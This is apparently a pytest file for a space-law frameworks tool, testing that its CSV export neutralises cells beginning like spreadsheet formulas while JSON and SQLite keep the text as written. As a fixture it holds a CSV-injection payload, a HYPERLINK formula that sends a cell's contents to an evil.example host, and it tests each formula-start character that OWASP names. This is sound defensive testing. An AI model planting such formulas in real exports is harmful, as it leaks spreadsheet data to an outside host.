"""`frameworks export` as JSON and CSV: every record round-trips, and no CSV cell runs as a formula.

Cells that a spreadsheet would run as a formula are neutralised in CSV, while JSON and SQLite keep the
text as written."""

from __future__ import annotations

import csv
import io
import json
import sqlite3
from pathlib import Path

import pytest

from conftest import cli
from space_frameworks.reports.listing import csv_text

FIVE = ["ost", "us-eo-2020", "lux-2017", "artemis-accords", "russia"]


def test_export_to_a_csv_file_writes_csv(tmp_path: Path) -> None:
    target = tmp_path / "ds.csv"
    assert cli("export", "-o", str(target)).exit_code == 0
    assert target.read_text(encoding="utf-8").startswith("framework,topic,")


def test_export_round_trips_every_record(tmp_path: Path) -> None:
    target = tmp_path / "all.json"
    assert cli("export", "--format", "json", "-o", str(target)).exit_code == 0
    data = json.loads(target.read_text(encoding="utf-8"))
    assert {f["id"] for f in data["frameworks"]} >= set(FIVE)
    rows = list(csv.DictReader(io.StringIO(cli("export", "--format", "csv").output)))
    assert len(rows) == len(data["frameworks"]) * len(data["topics"])


FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


def test_csv_cells_that_begin_like_a_formula_are_neutralised_and_json_and_sqlite_keep_the_text(tmp_path: Path, fixture_root: Path) -> None:
    beta = fixture_root / "frameworks" / "beta.yaml"
    text = beta.read_text(encoding="utf-8")
    text = text.replace("summary: Insists on non-appropriation.", f"summary: '{FORMULA}'")
    text = text.replace("short_title: Beta position", "short_title: '@SUM(1+1);=1+2'")
    text = text.replace("summary: Rules should be made at the United Nations.", "summary: -2+3 more")
    beta.write_text(text, encoding="utf-8")
    exported = cli("export", "--format", "csv", root=fixture_root)
    assert exported.exit_code == 0, exported.stderr
    rows = list(csv.DictReader(io.StringIO(exported.stdout)))
    summaries = {r["topic"]: r["summary"] for r in rows if r["framework"] == "beta"}
    assert summaries["non-appropriation"] == "'" + FORMULA
    assert summaries["international-forum"] == "'-2+3 more"
    assert exported.stdout.splitlines()[0] == "framework,topic,relation,stance,summary,gist,pinpoints,quotes,sources,note,not_held,support"
    assert all(line.startswith('"') for line in exported.stdout.splitlines()[1:] if line[:4] in ('"bet', '"alp'))
    listed = cli("list", "--format", "csv", root=fixture_root)
    assert "'@SUM(1+1);=1+2" in [r["short_title"] for r in csv.DictReader(io.StringIO(listed.stdout))]
    assert '"\'@SUM(1+1);=1+2"' in listed.stdout  # quoted: a ";" never starts a new cell

    records = json.loads(cli("export", "--format", "json", root=fixture_root).stdout)
    [record] = (
        [r for r in records["frameworks"] if r["id"] == "beta"] if isinstance(records, dict) else [r for r in records if r["id"] == "beta"]
    )
    assert record["short_title"] == "@SUM(1+1);=1+2"
    assert FORMULA in json.dumps(record, ensure_ascii=False).replace('\\"', '"')
    database = tmp_path / "x.db"
    assert cli("export", "-o", str(database), root=fixture_root).exit_code == 0
    with sqlite3.connect(database) as connection:
        assert connection.execute("SELECT summary FROM positions WHERE framework = 'beta' AND topic = 'non-appropriation'").fetchone() == (
            FORMULA,
        )
        assert connection.execute("SELECT short_title FROM frameworks WHERE id = 'beta'").fetchone() == ("@SUM(1+1);=1+2",)


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_each_start_that_owasp_names_is_neutralised(start: str) -> None:
    text = csv_text(("a", "b"), [(f"{start}1+2", "plain")])
    assert list(csv.reader(io.StringIO(text, newline=""))) == [["a", "b"], [f"'{start}1+2", "plain"]]
    assert text.splitlines()[1].startswith('"')
